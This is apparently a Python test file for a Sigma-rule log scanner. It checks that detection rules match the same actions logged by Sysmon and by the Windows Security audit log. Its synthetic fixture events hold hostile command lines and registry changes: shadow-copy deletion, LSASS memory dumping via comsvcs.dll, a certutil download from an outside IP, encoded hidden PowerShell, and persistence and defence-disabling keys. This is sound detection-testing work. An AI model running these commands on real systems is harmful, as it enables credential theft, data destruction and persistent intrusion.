#!/usr/bin/env python3
"""The same action as Sysmon and as the Security log write it: rules must find both.

An event of Sysmon is rewritten as Windows' auditing would have logged it. What auditing does not
tell (hashes, original file name, folder, the parent's command line ...) is taken out of Sysmon's
event, so that the hits of both forms must be the same, NOTs and nulls included.
"""
import json

from harness import DATA, Skip, case, equal, main, run, true

SYSMON, SECURITY = "Microsoft-Windows-Sysmon/Operational", "Security"
UNTOLD = {"OriginalFileName", "Hashes", "CurrentDirectory", "ParentCommandLine", "Company",
          "Description", "Product", "FileVersion", "LogonGuid", "ProcessGuid", "ParentProcessGuid",
          "TerminalSessionId", "UtcTime", "RuleName"}
LABELS = {"Untrusted": 0, "Low": 4096, "Medium": 8192, "High": 12288, "System": 16384}
HIVES = [("HKLM\\System\\CurrentControlSet\\", "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\"),
         ("HKCR\\", "\\REGISTRY\\MACHINE\\SOFTWARE\\Classes\\"),
         ("HKLM\\", "\\REGISTRY\\MACHINE\\"), ("HKU\\", "\\REGISTRY\\USER\\")]


def account(prefix, user):
    domain, _, name = user.rpartition("\\")
    if name.upper() == "SYSTEM" and domain:
        domain, name, sid = "WORK", "PC1$", "S-1-5-18"
    else:
        sid = "S-1-5-21-1-2-3-1104"
    return {prefix + "UserSid": sid, prefix + "UserName": name, prefix + "DomainName": domain}


def audited(event_id, event):
    return {"Channel": SECURITY, "EventID": event_id, "Computer": event.get("Computer", "pc1"),
            "Provider_Name": "Microsoft-Windows-Security-Auditing"}


def as_4688(event):
    user = event.get("User", "WORK\\bob")
    parent = event.get("ParentUser") or user
    out = {**audited(4688, event), **account("Subject", parent)}
    out.update(account("Target", user) if user != parent else
               {"TargetUserSid": "S-1-0-0", "TargetUserName": "-", "TargetDomainName": "-"})
    for name, native in (("Image", "NewProcessName"), ("ParentImage", "ParentProcessName"),
                         ("CommandLine", "CommandLine"), ("LogonId", "SubjectLogonId")):
        if name in event:
            out[native] = event[name]
    for name, native in (("ProcessId", "NewProcessId"), ("ParentProcessId", "ProcessId")):
        if name in event:
            out[native] = hex(int(event[name]))
    if event.get("IntegrityLevel") in LABELS:
        out["MandatoryLabel"] = "S-1-16-%d" % LABELS[event["IntegrityLevel"]]
    return out


def registry_value(details):
    if details.startswith("DWORD (0x"):
        return "%%1876", str(int(details[9:17], 16))
    if details.startswith("QWORD (0x"):
        return "%%1883", hex(int(details[9:17] + details[20:28], 16))
    if details == "Binary Data":
        return "%%1875", ""
    return "%%1873", "" if details == "(Empty)" else details


def as_4657(event):
    key, _, value = event["TargetObject"].rpartition("\\")
    for short, long in HIVES:
        if key.upper().startswith(short.upper()):
            key = long + key[len(short):]
            break
    out = {**audited(4657, event), **account("Subject", event.get("User", "WORK\\bob"))}
    out.update(ObjectName=key, ObjectValueName="" if value == "(Default)" else value,
               OperationType="%%1905", ProcessName=event.get("Image", ""),
               ProcessId=hex(int(event.get("ProcessId", 4))))
    if event.get("Details") is not None:
        out["NewValueType"], out["NewValue"] = registry_value(event["Details"])
    return out


def both_forms(event):
    """None if it is no action that the Security log tells."""
    kind = int(event.get("EventID", 0))
    if event.get("Channel") != SYSMON or kind not in (1, 13) or (kind == 13) != (
            "TargetObject" in event):
        return None
    told = {name: value for name, value in event.items() if name not in UNTOLD}
    return told, as_4688(event) if kind == 1 else as_4657(event)


def hits(folder, name, events, rules):
    path = folder / (name + ".jsonl")
    path.write_text("".join(json.dumps(e) + "\n" for e in events))
    arguments = [a for r in rules for a in ("--rules", r)]
    out = run("scan", "--format", "jsonl", *arguments, path)
    found = [json.loads(line) for line in out.splitlines()]
    return {(f["event"]["line"], f["rule"]["id"]) for f in found}


def process(image, command, parent="C:\\Windows\\explorer.exe", **more):
    return {"Channel": SYSMON, "EventID": 1, "Computer": "pc1", "ProcessId": "4242",
            "ParentProcessId": "777", "User": "WORK\\bob", "LogonId": "0x3e7a1",
            "IntegrityLevel": "Medium", "Image": image, "CommandLine": command,
            "ParentImage": parent, "Provider_Name": "Microsoft-Windows-Sysmon", **more}


def value_set(target, details, **more):
    return {"Channel": SYSMON, "EventID": 13, "Computer": "pc1", "ProcessId": "4242",
            "EventType": "SetValue", "Image": "C:\\Windows\\regedit.exe", "User": "WORK\\bob",
            "TargetObject": target, "Details": details,
            "Provider_Name": "Microsoft-Windows-Sysmon", **more}


SYSTEM = "NT AUTHORITY\\SYSTEM"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
EVENTS = [
    process("C:\\Windows\\System32\\vssadmin.exe", "vssadmin delete shadows /all /quiet"),
    process("C:\\Windows\\System32\\whoami.exe", "whoami /priv", User=SYSTEM, LogonId="0x3e7",
            IntegrityLevel="System"),
    process(POWERSHELL, "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A",
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"),
    process("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami", "C:\\inetpub\\w3wp.exe",
            User="IIS APPPOOL\\web", ParentUser="IIS APPPOOL\\web"),
    process("C:\\Windows\\System32\\cmd.exe", "cmd.exe", "C:\\Users\\bob\\x.exe", User=SYSTEM,
            LogonId="0x3e7", IntegrityLevel="System", ParentUser="WORK\\bob"),
    process("C:\\Windows\\System32\\certutil.exe",
            "certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe"),
    process("C:\\Windows\\System32\\net.exe", "net user bob2 P@ss /add"),
    process("C:\\Windows\\System32\\reg.exe",
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d c:\\x.exe"),
    process("C:\\Windows\\System32\\rundll32.exe",
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\l.dmp full"),
    process("C:\\Windows\\System32\\schtasks.exe",
            "schtasks /create /tn x /tr c:\\users\\public\\x.exe /sc onlogon /ru system"),
    value_set("HKLM\\System\\CurrentControlSet\\Control\\Lsa\\RunAsPPL", "DWORD (0x00000000)"),
    value_set("HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\"
              "UseLogonCredential", "DWORD (0x00000001)"),
    value_set("HKU\\S-1-5-21-1-2-3-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x",
              "C:\\Users\\Public\\x.exe"),
    value_set("HKU\\S-1-5-21-1-2-3-1104_Classes\\ms-settings\\shell\\open\\command\\(Default)",
              "C:\\Windows\\System32\\cmd.exe"),
    value_set("HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware",
              "DWORD (0x00000001)", User=SYSTEM),
    value_set("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options"
              "\\sethc.exe\\Debugger", "cmd.exe"),
    value_set("HKLM\\System\\CurrentControlSet\\Services\\x\\ImagePath",
              "%COMSPEC% /c powershell -nop -w hidden -enc AAAA"),
    value_set("HKCR\\mscfile\\shell\\open\\command\\(Default)", "C:\\Users\\bob\\x.exe"),
    value_set("HKLM\\SOFTWARE\\x\\Data", "Binary Data"),
    value_set("HKLM\\SOFTWARE\\x\\Count", "QWORD (0x00000001-0x8000000f)"),
    value_set("HKLM\\SOFTWARE\\x\\Empty", "(Empty)"),
]

RULE = """title: t%d
id: 00000000-0000-4000-8000-%012d
logsource: {product: windows, category: %s}
detection:
  s:
%s
  condition: s
"""
# (category, selection, events of EVENTS that it finds)
OWN = [
    ("process_creation", "    User: NT AUTHORITY\\SYSTEM", [2, 5]),
    ("process_creation", "    User: WORK\\bob", [1, 3, 6, 7, 8, 9, 10]),
    ("process_creation", "    User|fieldref: ParentUser", [4]),
    ("process_creation", "    ProcessId: 4242\n    ParentProcessId|lt: 778", range(1, 11)),
    ("process_creation", "    IntegrityLevel: System\n    ParentUser: WORK\\bob", [5]),
    ("registry_set", "    TargetObject: HKLM\\System\\CurrentControlSet\\Control\\Lsa\\RunAsPPL\n"
     "    Details: DWORD (0x00000000)", [11]),
    ("registry_set", "    TargetObject|startswith: HKU\\S-1-5-21-\n"
     "    TargetObject|endswith: \\CurrentVersion\\Run\\x\n    Details|contains: Public", [13]),
    ("registry_set", "    TargetObject|endswith: _Classes\\ms-settings\\shell\\open\\command\\(Default)",
     [14]),
    ("registry_set", "    TargetObject: HKCR\\mscfile\\shell\\open\\command\\(Default)", [18]),
    ("registry_set", "    User|contains: AUTHORI\n    EventType: SetValue", [15]),
    ("registry_event", "    Details: Binary Data", [19]),
    ("registry_event", "    Details: QWORD (0x00000001-0x8000000f)\n    ProcessId: 4242", [20]),
    ("registry_set", "    Details: (Empty)", [21]),
]


@case
def own_rules_find_both(folder):
    rules = folder / "rules"
    rules.mkdir()
    for number, (category, selection, _) in enumerate(OWN):
        (rules / ("%d.yml" % number)).write_text(RULE % (number, number, category, selection))
    sysmon, security = zip(*(both_forms(e) for e in EVENTS))
    # ParentUser is there only in some events of Sysmon; auditing always tells it
    found = {"sysmon": hits(folder, "sysmon", sysmon, [rules]),
             "security": hits(folder, "security", security, [rules])}
    for number, (_, selection, wanted) in enumerate(OWN):
        identity = "00000000-0000-4000-8000-%012d" % number
        for form, all_hits in found.items():
            lines = {line for line, rule in all_hits if rule == identity}
            if "ParentUser" in selection and form == "security":
                true(set(wanted) <= lines, (form, selection, lines))
            else:
                equal(lines, set(wanted), (form, selection))


def real_rules():
    folders = [DATA / "sigma" / name
               for name in ("rules", "rules-emerging-threats", "rules-threat-hunting")]
    if not folders[0].is_dir():
        raise Skip("no reference rules")
    return folders


@case
def real_rules_find_both_in_own_events(folder):
    rules = real_rules()
    sysmon, security = zip(*(both_forms(e) for e in EVENTS))
    first = hits(folder, "sysmon", sysmon, rules)
    second = hits(folder, "security", security, rules)
    equal(sorted(first - second), [], "hits in Sysmon's form only")
    true(len({rule for _, rule in first}) >= 30, "rules that hit: %d" % len(first))


@case
def real_rules_find_both_in_samples(folder):
    """What the other form finds besides is by the key alone, which is TargetObject too."""
    rules = real_rules()
    if not (DATA / "evtx").is_dir():
        raise Skip("no sample EVTX files")
    told = {}
    for line in run("dump", "--flat", DATA / "evtx", expect=(0, 4)).splitlines():
        event = json.loads(line)["event"]
        forms = both_forms(event)
        if forms is not None:
            same = {k: v for k, v in forms[0].items() if not k.startswith(("Time", "EventRecord"))}
            told.setdefault(json.dumps([same.get(n) for n in (
                "Image", "CommandLine", "ParentImage", "User", "ParentUser", "IntegrityLevel",
                "TargetObject", "Details")]), forms)
    sysmon, security = zip(*told.values())
    first = hits(folder, "sysmon", sysmon, rules)
    second = hits(folder, "security", security, rules)
    equal(sorted(first - second), [], "hits in Sysmon's form only")
    more = [security[line - 1] for line, _ in second - first]
    true(all(event["EventID"] == 4657 for event in more), more)
    true(len(first) > 500, "hits: %d" % len(first))
    print("%d events, %d rules, %d hits in both forms" % (
        len(told), len({rule for _, rule in first}), len(first)))


if __name__ == "__main__":
    main()
